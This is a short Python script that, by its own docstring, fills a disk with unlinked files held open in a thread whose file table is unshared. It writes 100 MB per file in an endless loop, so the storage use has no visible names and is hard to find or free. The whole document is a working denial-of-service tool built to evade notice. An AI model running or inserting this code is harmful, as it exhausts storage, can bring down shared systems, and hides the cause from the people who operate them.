"""Fills the disk with files that have no name and are open in a thread that shares its open files with no other."""

import ctypes
import itertools
import os
import threading

CLONE_FILES = 0x400


def fill():
    ctypes.CDLL(None).unshare(CLONE_FILES)
    part = bytes(10_000_000)
    for number in itertools.count():
        held = os.open("out/hidden", os.O_CREAT | os.O_RDWR)
        os.unlink("out/hidden")
        for _ in range(10):
            os.write(held, part)


threading.Thread(target=fill).start()
